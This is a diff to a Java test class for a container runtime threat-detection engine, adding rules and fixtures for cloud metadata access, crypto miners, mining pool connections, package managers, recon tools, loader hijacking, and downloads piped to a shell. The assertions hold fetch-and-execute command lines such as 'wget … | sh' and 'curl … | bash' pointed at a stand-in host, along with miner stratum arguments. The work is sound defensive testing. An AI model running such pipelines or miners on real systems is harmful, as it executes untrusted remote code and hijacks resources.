@@ -25,7 +25,8 @@ class BundledRulesTest {
                 "container_escape_namespace", "ptrace_in_container", "container_privilege_escalation",
                 "kernel_module_loaded_from_container", "docker_socket_access_from_container",
                 "cgroup_mount_in_container", "cgroup_release_agent_write", "core_pattern_modified",
-                "core_pattern_pipe_set", "host_file_written_from_container",
+                "core_pattern_pipe_set", "host_file_written_from_container", "namespace_unshare_in_container",
+                "capability_gained_in_container",
                 "container_loader_preload_write", "container_persistence_write",
                 "device_mapped_into_container", "block_device_mount_in_container", "debugfs_mount_in_container",
                 "packet_socket_in_container",
@@ -38,7 +39,10 @@ class BundledRulesTest {
                 "credential_search_in_container", "cloud_credential_search_in_container", "bulk_data_wipe_in_container",
                 "debugfs_program_in_container", "log_clearing_in_container", "script_from_temp_dir_in_container",
                 "ssh_to_non_standard_port_in_container", "sensitive_file_link_in_container",
-                "system_user_interactive_in_container"),
+                "system_user_interactive_in_container",
+                "cloud_metadata_access_from_container", "cloud_metadata_flow_from_container", "crypto_miner_in_container",
+                "mining_pool_connection_from_container", "download_piped_to_shell_in_container",
+                "package_manager_in_container", "recon_tool_in_container", "loader_hijack_env_in_container"),
                 LOADED.ruleSet().rules().stream().map(Rule::id).toList());
     }
 
@@ -72,7 +76,7 @@ class BundledRulesTest {
         }
     }
 
-    /** Positive fixtures: exactly these rules fire. */
+    /** Positive fixtures: exactly these rules fire (several separated by spaces). */
     @ParameterizedTest
     @CsvSource({
         "container_start_privileged,     privileged_container_started",
@@ -81,7 +85,7 @@ class BundledRulesTest {
         "container_start_etc_mount,      sensitive_host_mount",
         "container_start_host_namespaces, host_namespace_shared",
         "docker_exec,                    container_exec_session",
-        "exec_shell_in_container,        shell_in_container",
+        "exec_shell_in_container,        shell_in_container download_piped_to_shell_in_container", // sh -c "wget … | sh"
         "posture_open_critical,          host_posture_critical_weakness",
         "posture_open_high_container,    host_posture_weakness",
         "exec_escape_nsenter_host_namespaces, container_escape_namespace",
@@ -108,7 +112,7 @@ class BundledRulesTest {
         "file_open_hostetc_shadow_by_dd, sensitive_file_read_in_container", // the host's shadow through /hostetc
         "file_open_own_shadow_opener_gone, sensitive_file_read_in_container", // told by the mark, no process
         "file_open_ssh_host_key_by_renamed_cat, sensitive_file_read_in_container", // not sshd: a renamed reader
-        "exec_binary_written_after_start, binary_not_in_image",
+        "exec_binary_written_after_start, binary_not_in_image crypto_miner_in_container", // a dropped xmrig
         "exec_from_dev_shm_in_container, exec_from_temp_dir_in_container",
         "exec_reverse_shell_allowed_shell_label, shell_with_network_socket", // the label allows shells, not reverse ones
         "exec_nc_e_in_container,         netcat_program_exec_in_container",
@@ -134,9 +138,29 @@ class BundledRulesTest {
         "packet_socket_udhcpc_in_container, packet_socket_in_container", // busybox udhcpc -i lo
         "oom_event_first_report_of_a_kill, container_oom_killed", // Docker's event came before any sample
         "container_stop_oom_killed_unreported, container_oom_killed", // died before anything else saw the kill
+        "exec_wget_cloud_metadata_in_container, cloud_metadata_access_from_container",
+        "exec_curl_gcp_metadata_in_container, cloud_metadata_access_from_container",
+        "flow_to_cloud_metadata,         cloud_metadata_flow_from_container",
+        "exec_xmrig_in_container,        crypto_miner_in_container",
+        "exec_renamed_miner_stratum_in_container, crypto_miner_in_container", // a name no list has, a pool URL
+        "flow_to_mining_pool_port,       mining_pool_connection_from_container",
+        "exec_wget_piped_to_sh_allowed_label, download_piped_to_shell_in_container", // the label allows shells
+        "exec_bash_fed_by_curl_pipeline_allowed_label, download_piped_to_shell_in_container", // told by its parent
+        "exec_sh_command_substitution_curl_allowed_label, download_piped_to_shell_in_container", // sh -c "$(curl …)"
+        "exec_apt_get_install_from_exec_session, package_manager_in_container",
+        "exec_apk_add_from_entrypoint,   package_manager_in_container",
+        "exec_dpkg_install_in_container, package_manager_in_container",
+        "exec_pip_install_in_container,  package_manager_in_container",
+        "exec_nmap_in_container,         recon_tool_in_container",
+        "exec_tcpdump_in_container,      recon_tool_in_container",
+        "namespace_change_unshare_user_in_container, namespace_unshare_in_container",
+        "capability_change_file_caps_setuid_in_container, capability_gained_in_container",
+        "exec_ld_preload_in_container,   loader_hijack_env_in_container",
+        "exec_ld_library_path_tmp_in_container, loader_hijack_env_in_container",
+        "exec_glibc_tunables_setuid_in_container, container_privilege_escalation loader_hijack_env_in_container",
     })
-    void positiveFixtureFiresExactlyItsRule(String fixture, String rule) {
-        assertEquals(List.of(rule), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
+    void positiveFixtureFiresExactlyItsRule(String fixture, String rules) {
+        assertEquals(List.of(rules.split(" ")), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
     }
 
     /** Negative fixtures: the same kind of event, harmless; nothing fires. */
@@ -188,9 +212,62 @@ class BundledRulesTest {
         "oom_event_repeat_of_a_kill",   // Docker's second report of the same kill
         "container_stop_oom_killed_already_reported", // the kill was alerted when it was reported
         "resource_sample_oom_kill_already_reported", // the counter catching up with a kill Docker reported
+        "exec_wget_internal_service_in_container", // wget of a neighbour's health check
+        "flow_to_external_https",       // the internet on 443: no metadata, no pool port
+        "exec_cat_stratum_log_in_container", // "stratum" in a file name is no pool URL
+        "exec_wget_piped_to_grep_allowed_label", // a download piped to grep, not to a shell
+        "exec_rpm_query_in_container",  // rpm -qi queries, installs nothing
+        "exec_apt_list_installed_in_container", // apt list --installed
+        "namespace_change_runc_init_entering_container", // from the host's namespaces into the container's
+        "namespace_change_nsenter_into_host", // into the host's: container_escape_namespace's, at the exec
+        "namespace_change_without_host_reference", // runc and unshare cannot be told apart: silent
+        "capability_change_ping_net_raw_in_container", // ping's file capability
+        "capability_change_runc_init_dropping", // capabilities dropped, none gained
+        "capability_change_in_new_user_namespace", // held in its own user namespace only
+        "capability_change_setuid_root_in_container", // became root: container_privilege_escalation's
+        "exec_ld_library_path_system_in_container", // a library path of its own and a malloc tunable
+        "exec_ld_preload_allowed_label", // an image preloading jemalloc, allowed by its deployer
     })
     void negativeFixtureFiresNothing(String fixture) {
         assertEquals(List.of(), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
+    }
+
+    @Test
+    void aPackageManagerSaysWhetherAnExecSessionOrTheMainProcessRanIt() {
+        RuleMatch exec = ENGINE.evaluate(Fixtures.event("exec_apt_get_install_from_exec_session")).get(0);
+        assertEquals("from a docker exec session", exec.evidence().get("started_by"));
+        RuleMatch entrypoint = ENGINE.evaluate(Fixtures.event("exec_apk_add_from_entrypoint")).get(0);
+        assertEquals("from the container's main process", entrypoint.evidence().get("started_by"));
+        RuleMatch unknown = ENGINE.evaluate(Fixtures.event("exec_dpkg_install_in_container")).get(0);
+        assertEquals("from an unknown origin", unknown.evidence().get("started_by"), "no ancestors: not guessed");
+    }
+
+    @Test
+    void aDownloadPipedToAShellNamesThePipelineWhereverItWasSeen() {
+        RuleMatch own = ENGINE.evaluate(Fixtures.event("exec_wget_piped_to_sh_allowed_label")).get(0);
+        assertEquals("sh -c wget -qO- http://203.0.113.7/i.sh | sh", own.evidence().get("pipeline"));
+        RuleMatch fed = ENGINE.evaluate(Fixtures.event("exec_bash_fed_by_curl_pipeline_allowed_label")).get(0);
+        assertEquals("bash -c curl -fsSL https://203.0.113.7/install.sh | bash", fed.evidence().get("pipeline"));
+    }
+
+    @Test
+    void minerAndMetadataEvidenceSayWhatGaveThemAway() {
+        RuleMatch renamed = ENGINE.evaluate(Fixtures.event("exec_renamed_miner_stratum_in_container")).get(0);
+        assertEquals(false, renamed.evidence().get("by_name"));
+        assertEquals(List.of("stratum+tcp://", "--donate-level"), renamed.evidence().get("arguments"));
+        assertEquals(true, ENGINE.evaluate(Fixtures.event("exec_xmrig_in_container")).get(0).evidence().get("by_name"));
+        RuleMatch gcp = ENGINE.evaluate(Fixtures.event("exec_curl_gcp_metadata_in_container")).get(0);
+        assertEquals(List.of("metadata.google.internal"), gcp.evidence().get("hosts"));
+    }
+
+    @Test
+    void namespaceAndCapabilityRulesNameWhatWasCreatedOrGained() {
+        RuleMatch unshare = ENGINE.evaluate(Fixtures.event("namespace_change_unshare_user_in_container")).get(0);
+        assertEquals(List.of("user"), unshare.evidence().get("created"));
+        assertEquals(true, unshare.evidence().get("new_user_namespace"));
+        RuleMatch caps = ENGINE.evaluate(Fixtures.event("capability_change_file_caps_setuid_in_container")).get(0);
+        assertEquals(List.of("SETUID"), caps.evidence().get("gained"));
+        assertEquals(Severity.HIGH, caps.rule().severity());
     }
 
     @Test
@@ -433,7 +510,7 @@ class BundledRulesTest {
     void shellInContainerFiresOnANetlinkExecButNotOnOneThatVanishedUnread() {
         Map<String, Object> event = Fixtures.event("exec_shell_in_container");
         event.put("source", "netlink");
-        assertEquals(List.of("shell_in_container"), Fixtures.firedIds(ENGINE, event));
+        assertEquals(List.of("shell_in_container", "download_piped_to_shell_in_container"), Fixtures.firedIds(ENGINE, event));
         // gone before it was read: pid, ppid and container only, its name unknown
         Map<String, Object> vanished = Fixtures.event("exec_shell_in_container");
         vanished.put("source", "netlink");
